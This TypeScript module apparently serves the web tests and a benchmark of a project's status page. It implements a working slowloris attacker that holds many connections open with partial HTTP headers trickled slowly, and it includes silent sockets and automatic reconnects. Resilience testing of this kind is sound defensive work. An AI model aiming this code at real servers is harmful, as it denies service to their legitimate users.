// A slowloris attacker for the status page's port (the web tests and the `slowloris` bench):
// `connections` sockets from one source address (a loopback address other than the real
// clients', e.g. 127.0.0.2), each holding a connection without ever asking anything:
// - most do the TLS handshake (or none over plain HTTP), send the start of a GET and then one
//   more header line every `intervalMs`, never the blank line that ends the headers;
// - the last `silent` of them open TCP and send nothing at all, not even a TLS ClientHello.
// Whatever the server closes is opened again at the next tick, as slowloris does.
import net from "node:net";
import tls from "node:tls";

export interface SlowlorisOptions {
  readonly host: string;
  readonly port: number;
  readonly tls: boolean;
  /** The attack's source address. */
  readonly localAddress: string;
  readonly connections: number;
  /** Of `connections`, those that send nothing after the TCP connect. */
  readonly silent: number;
  /** Between two header lines of a socket, and between reconnect rounds (ms). */
  readonly intervalMs: number;
}

interface Slot {
  socket: net.Socket | undefined;
  /** Connected (TCP, and TLS unless silent), not closed yet. */
  open: boolean;
  lines: number;
}

export class Slowloris {
  /** Connections opened so far (first ones and reopened ones). */
  opened = 0;
  /** Connections the server closed (or reset) after they connected. */
  closedByServer = 0;
  /** Connections that failed before they were up (refused, reset during the TLS handshake). */
  failed = 0;
  /** Connections that came up (TCP connected, TLS established unless silent). */
  up = 0;
  private readonly slots: Slot[];
  private timer: NodeJS.Timeout | undefined;
  private running = false;

  constructor(private readonly o: SlowlorisOptions) {
    this.slots = Array.from({ length: o.connections }, () => ({ socket: undefined, open: false, lines: 0 }));
  }

  /** Sockets up right now. */
  get open(): number {
    let n = 0;
    for (const s of this.slots) if (s.open) n++;
    return n;
  }

  /** Connection attempts that have come up or failed (each one does, one way or the other). */
  get settled(): number {
    return this.up + this.failed;
  }

  start(): void {
    this.running = true;
    this.tick();
  }

  stop(): void {
    this.running = false;
    if (this.timer) clearTimeout(this.timer);
    this.timer = undefined;
    for (const s of this.slots) s.socket?.destroy();
  }

  private tick(): void {
    this.timer = undefined;
    if (!this.running) return;
    const firstSilent = this.o.connections - this.o.silent;
    this.slots.forEach((slot, i) => {
      if (slot.socket === undefined) this.connect(slot, i >= firstSilent);
      else if (slot.open && i < firstSilent) slot.socket.write(`X-Wait-${slot.lines++}: ${"a".repeat(8)}\r\n`);
    });
    this.timer = setTimeout(() => this.tick(), this.o.intervalMs);
  }

  private connect(slot: Slot, silent: boolean): void {
    this.opened++;
    slot.lines = 0;
    const o = this.o;
    const up = (): void => {
      this.up++;
      slot.open = true;
      if (!silent) socket.write(`GET / HTTP/1.1\r\nHost: ${o.host}\r\nUser-Agent: slowloris\r\n`);
    };
    const tcp = net.connect({ host: o.host, port: o.port, localAddress: o.localAddress }, o.tls && !silent ? undefined : up);
    const socket = o.tls && !silent ? tls.connect({ socket: tcp, rejectUnauthorized: false }, up) : tcp;
    if (socket !== tcp) tcp.on("error", () => undefined);
    slot.socket = socket;
    socket.on("error", () => undefined);
    socket.on("data", () => undefined);
    socket.on("close", () => {
      if (!this.running) return;
      if (slot.open) this.closedByServer++;
      else this.failed++;
      slot.open = false;
      slot.socket = undefined;
    });
  }
}
